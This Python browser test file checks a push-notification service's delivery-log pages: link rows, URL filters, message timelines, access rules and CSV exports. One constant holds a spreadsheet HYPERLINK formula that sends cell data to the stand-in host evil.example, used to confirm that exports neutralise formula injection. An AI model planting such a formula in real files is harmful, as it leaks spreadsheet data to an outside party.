"""The delivery log in a browser: rows that are links, filters in the address, what happened to a message, exports."""

import csv
import datetime as dt
import io
import re
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import psycopg
import pytest
from playwright.sync_api import Download, Page, expect

from core_service.common.orm import new_id
from tests.browser.conftest import OpenPage, OpenSignedIn, session_of
from tests.http_client import plain_http_client
from tests.stack import Stack
from tests.team import Team
from tests.waiting import eventually

ZONE = "Asia/Kolkata"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
HEIGHTS = "() => [...document.querySelectorAll('tbody tr')].map((row) => row.getBoundingClientRect().height)"
DRAFTED = """() => Object.keys(sessionStorage).filter((key) => key.startsWith("smith_draft"))
    .flatMap((key) => Object.keys(JSON.parse(sessionStorage.getItem(key)).page))"""
CALL = """
INSERT INTO action_runs (id, account_id, action_id, device_id, repeatable, url, method, state, due_at, attempts,
                         status_code, response_body, reason, message, created_at, settled_at)
SELECT %(id)s, n.account_id, a.id, d.device_id, false, a.url, 'POST', 'failed', now(), 7, 503, 'out of order',
       'Http503', 'The receiver answered 503.', now(), now()
FROM notification_actions a
JOIN notifications n ON n.id = a.notification_id
JOIN deliveries d ON d.notification_id = n.id
WHERE n.id = %(notification_id)s
LIMIT 1
"""


@pytest.fixture(scope="module")
def backend(place: Stack) -> Iterator[httpx.Client]:
    """Sends with the quickstart's key."""
    with plain_http_client(place.base_url, Authorization=f"Bearer {place.api_key}") as client:
        yield client


@pytest.fixture(scope="module")
def word(place: Stack, backend: httpx.Client, session: str) -> str:
    """In the title of each of 60 pushes, some of which went to the channel `night-shift`."""
    word = f"w{uuid.uuid4().hex[:8]}"
    with plain_http_client(place.base_url, Authorization=f"Bearer {session}") as owner:
        channel = owner.post("/api/channels", json={"slug": "night-shift", "name": "Night shift"}).json()["channel"]
        phone = phone_of(owner)["id"]
        assert owner.put(f"/api/channels/{channel['id']}/devices/{phone}").status_code < 300
    for number in range(60):
        target = {"target": {"channels": ["night-shift"]}} if number % 20 == 0 else {}
        long = "Deployment of the payment service to production finished with warnings"
        push(backend, title=f"{word} {number} {long}", message="All of 1,204 tests passed in 3 minutes", **target)
    return word


def phone_of(owner: httpx.Client) -> dict[str, Any]:
    """The quickstart's."""
    devices = owner.get("/api/devices").json()["devices"]
    return next(one for one in devices if one["name"] == "iPhone")


def push(backend: httpx.Client, **body: Any) -> str:
    answer = backend.post("/api/push-notification", json=body)
    assert answer.status_code == 200, answer.text
    return str(answer.json()["notification_id"])


def rows(page: Page) -> Any:
    return page.locator("tbody tr")


def click_beside_the_text(row: Any, **options: Any) -> None:
    """Clicks where the row has neither text nor a link of its own: what lies there is the row's."""
    row.locator("td").nth(1).click(position={"x": 100, "y": 15}, force=True, **options)


def test_a_row_is_one_line_and_a_link_to_its_message(owner: Page, word: str) -> None:
    owner.goto(f"/delivery-log?q={word}")
    expect(rows(owner)).to_have_count(50)
    assert max(owner.evaluate(HEIGHTS)) < 44
    owner.mouse.move(600, 600)
    owner.mouse.wheel(0, 1200)
    heading = owner.get_by_role("columnheader", name="Outcome")
    eventually("the header stays", lambda: abs((heading.bounding_box() or {"y": 999})["y"]) < 2)
    owner.mouse.wheel(0, -1200)
    # It moves for some time after that, and a click would land on another row.
    owner.wait_for_function("() => scrollY === 0")
    # A click in the middle of a row, where there is no text.
    third = rows(owner).nth(2)
    title = third.get_by_role("link").first.inner_text()
    with owner.context.expect_page() as opened:
        click_beside_the_text(third, button="middle")
    expect(opened.value).to_have_url(re.compile(r"/delivery-log/[0-9a-f-]{36}$"))
    opened.value.close()
    click_beside_the_text(third)
    expect(owner.get_by_role("heading", level=1)).to_contain_text(title.split(" All of")[0].strip()[:30])
    owner.go_back()
    # It is the first cell's link that is in the order of the keyboard.
    rows(owner).first.get_by_role("link").first.focus()
    owner.keyboard.press("Tab")
    assert owner.evaluate("() => document.activeElement.closest('tr').rowIndex") == 2
    owner.keyboard.press("Enter")
    expect(owner).to_have_url(re.compile(r"/delivery-log/[0-9a-f-]{36}$"))
    owner.set_viewport_size({"width": 360, "height": 800})
    owner.goto(f"/delivery-log?q={word}")
    expect(rows(owner)).to_have_count(50)
    assert max(owner.evaluate(HEIGHTS)) < 70
    assert owner.evaluate("document.documentElement.scrollWidth") == 360


def test_filters_are_in_the_address_and_outlive_a_reload_the_way_back_and_a_shared_link(
    place: Stack, session: str, open_page: OpenPage, word: str
) -> None:
    page = open_page(place.admin_url, "/delivery-log", session=session, timezone_id=ZONE)
    loads: list[str] = []
    page.on("request", lambda asked: loads.append(asked.url) if asked.is_navigation_request() else None)
    page.get_by_role("searchbox").press_sequentially(word)
    expect(page).to_have_url(re.compile(f"q={word}"))
    page.get_by_role("button", name="Channel").click()
    page.get_by_role("button", name="Night shift").click()
    expect(rows(page)).to_have_count(3)
    page.get_by_role("button", name="Device").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_role("searchbox").fill("iPh")
    dialog.get_by_role("button", name=re.compile("^iPhone")).first.click()
    expect(page.get_by_text("Device:")).to_be_visible()
    page.get_by_role("combobox", name="Outcome").click()
    page.get_by_role("option", name="Accepted").click()
    expect(page).to_have_url(re.compile("channel=night-shift"))
    expect(page).to_have_url(re.compile("outcome=accepted"))
    assert loads == []
    expect(rows(page)).to_have_count(3)
    page.reload()
    expect(page.get_by_role("searchbox")).to_have_value(word)
    expect(rows(page)).to_have_count(3)
    # It was not a draft that an outage has interrupted.
    assert page.evaluate(DRAFTED) == []
    click_beside_the_text(rows(page).first)
    expect(page).to_have_url(re.compile(r"/delivery-log/[0-9a-f-]{36}$"))
    page.go_back()
    expect(rows(page)).to_have_count(3)
    shared = open_page(place.admin_url, page.url.removeprefix(place.admin_url), session=session)
    expect(rows(shared)).to_have_count(3)
    expect(shared.get_by_text("night-shift").first).to_be_visible()
    page.get_by_role("button", name="Clear filters").click()
    expect(page).to_have_url(f"{place.admin_url}/delivery-log")
    expect(rows(page)).to_have_count(50)


@pytest.mark.thorough
def test_a_period_is_chosen_in_the_persons_own_time(place: Stack, session: str, open_page: OpenPage, word: str) -> None:
    page = open_page(place.admin_url, f"/delivery-log?q={word}", session=session, timezone_id=ZONE)
    page.get_by_role("combobox", name="Period").click()
    page.get_by_role("option", name="From … to …").click()
    here = dt.datetime.now(dt.UTC) + dt.timedelta(hours=5, minutes=30)
    page.get_by_label("To", exact=True).fill(f"{here - dt.timedelta(hours=1):%Y-%m-%dT%H:%M}")
    expect(page.get_by_text("Nothing is found")).to_be_visible()
    expect(page).to_have_url(re.compile("until="))
    page.get_by_label("To", exact=True).fill(f"{here + dt.timedelta(hours=1):%Y-%m-%dT%H:%M}")
    page.get_by_label("From", exact=True).fill(f"{here - dt.timedelta(hours=2):%Y-%m-%dT%H:%M}")
    expect(page).to_have_url(re.compile("since="))
    expect(rows(page)).to_have_count(50)
    page.reload()
    expect(page.get_by_label("From", exact=True)).to_have_value(f"{here - dt.timedelta(hours=2):%Y-%m-%dT%H:%M}")
    expect(rows(page)).to_have_count(50)


def test_a_message_says_what_happened_in_order_and_why_in_its_place(
    place: Stack, backend: httpx.Client, session: str, open_page: OpenPage
) -> None:
    actions = [{"title": "Approve", "type": "webhook", "url": "https://ci.example.com/approve"}]
    tag = f"t{uuid.uuid4().hex[:8]}"
    notification_id = push(backend, title=f"Deploy? {tag}", tags=[tag], actions=actions)
    # As core makes them: lists are in the order of ids, and begin with the time of the message.
    run_id = str(new_id())
    with psycopg.connect(place.database_url, autocommit=True) as database:
        made = database.execute(CALL, {"id": run_id, "notification_id": notification_id})
        assert made.rowcount == 1
    page = open_page(place.admin_url, f"/delivery-log/{notification_id}", session=session, timezone_id=ZONE)
    story = page.locator(".happening-one")
    expect(story.nth(0)).to_contain_text("Asked for by")
    expect(story.filter(has_text="Accepted by the push service").first).to_be_visible()
    expect(story.filter(has_text="“Approve” was tapped").first).to_be_visible()
    expect(story.filter(has_text="The webhook call failed")).to_contain_text("HTTP 503 · 7 attempts")
    told = story.locator("time").evaluate_all("(all) => all.map((one) => one.getAttribute('datetime'))")
    assert told == sorted(told, key=dt.datetime.fromisoformat)
    # The card has the button that was sent.
    expect(page.locator(".lock-card").get_by_text("Approve")).to_be_visible()
    why = page.get_by_role("button", name=re.compile("Why is it accepted on iPhone")).first
    if why.get_attribute("aria-expanded") == "false":
        why.click()
    here = (dt.datetime.now(dt.UTC) + dt.timedelta(hours=5, minutes=30)).strftime("%H:")
    exact = page.locator(".why time").first
    expect(exact).to_have_attribute("title", re.compile(r"\d\d:\d\d:\d\d UTC$"))
    assert "UTC" not in page.locator(".why").first.inner_text(), here
    assert page.get_by_role("dialog").count() == 0
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=place.admin_url)
    page.get_by_role("button", name="Copy notification id").click()
    # The browser copies by itself, after the click.
    eventually(
        "it is copied",
        lambda: page.evaluate("() => navigator.clipboard.readText()"),
        until=lambda copied: copied == notification_id,
    )
    page.goto("/delivery-log/webhook-calls")
    click_beside_the_text(rows(page).filter(has_text=tag).first)
    expect(page).to_have_url(re.compile(f"{run_id}$"))
    expect(page.get_by_text("out of order")).to_be_visible()
    expect(page.get_by_text("The receiver answered 503.")).to_be_visible()
    page.get_by_role("link", name=re.compile("^Deploy")).click()
    expect(page).to_have_url(re.compile(f"{notification_id}$"))


@pytest.mark.thorough
def test_live_activities_are_in_the_log_and_lead_to_their_pages(owner: Page, backend: httpx.Client) -> None:
    title = f"Backup {uuid.uuid4().hex[:8]}"
    state = {"title": title, "type": "progress", "percentage": 42}
    assert backend.put("/api/live-activity/stream/log", json={"content_state": state}).status_code == 200
    owner.goto("/delivery-log?period=24h")
    owner.get_by_role("navigation", name="Delivery log").get_by_role("link", name="Live Activities").click()
    expect(owner).to_have_url(re.compile("live-activities.period=24h$"))
    row = rows(owner).filter(has_text=title)
    expect(row).to_contain_text(re.compile("live|waiting for token|starting"))
    click_beside_the_text(row)
    expect(owner.get_by_role("heading", level=1)).to_have_text(title)
    assert backend.delete("/api/live-activity/stream/log").status_code == 200


def read(download: Download) -> list[dict[str, str]]:
    with Path(download.path()).open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.thorough
def test_an_export_has_what_the_filters_leave_and_no_formula(
    place: Stack, owner: Page, backend: httpx.Client, word: str
) -> None:
    tag = f"t{uuid.uuid4().hex[:8]}"
    push(backend, title=FORMULA, message=f'{word} "quoted", in\ntwo lines', tags=[tag])
    owner.goto(f"/delivery-log?q={word}")
    with owner.expect_download() as all_of_it:
        owner.get_by_role("link", name="CSV").click()
    found = read(all_of_it.value)
    assert len(found) == 61
    assert found[0]["title"] == f"'{FORMULA}"
    assert found[0]["message"] == f'{word} "quoted", in\ntwo lines'
    assert not [value for row in found for value in row.values() if value.startswith(("=", "+", "-", "@"))]
    owner.goto(f"/delivery-log?tag={tag}")
    expect(rows(owner)).to_have_count(1)
    with owner.expect_download() as one:
        owner.get_by_role("link", name="CSV").click()
    assert [row["tags"] for row in read(one.value)] == [tag]
    for name in ("live-activities", "webhook-calls"):
        owner.goto(f"/delivery-log/{name}")
        with owner.expect_download() as other:
            owner.get_by_role("link", name="CSV").click()
        assert other.value.suggested_filename.startswith(f"{name}-20")
        assert "title" in Path(other.value.path()).read_text(encoding="utf-8-sig").partition("\n")[0].split(",")


@pytest.mark.thorough
def test_webhook_calls_and_their_export_are_for_owners(place: Stack, open_signed_in: OpenSignedIn) -> None:
    team = Team.of(place)
    email = f"{team.unique('mia')}@team.test"
    team.join(email, "a long password")
    session = session_of(place, email, "a long password")
    page = open_signed_in(session)
    page.goto("/delivery-log/webhook-calls")
    expect(page.get_by_text("Only an owner of the workspace")).to_be_visible()
    expect(page.get_by_role("link", name="CSV")).not_to_be_visible()
    with plain_http_client(place.admin_url) as browser:
        cookies = {"smith_session": session}
        assert browser.get("/delivery-log/webhook-calls.csv", cookies=cookies).status_code == 403
        mine = browser.get("/delivery-log.csv", cookies=cookies)
        assert mine.status_code == 200
        assert next(csv.reader(io.StringIO(mine.text.removeprefix("\ufeff"))))[:3] == ["id", "sent", "title"]
        assert browser.get("/delivery-log.csv").headers["location"].startswith("/sign-in")
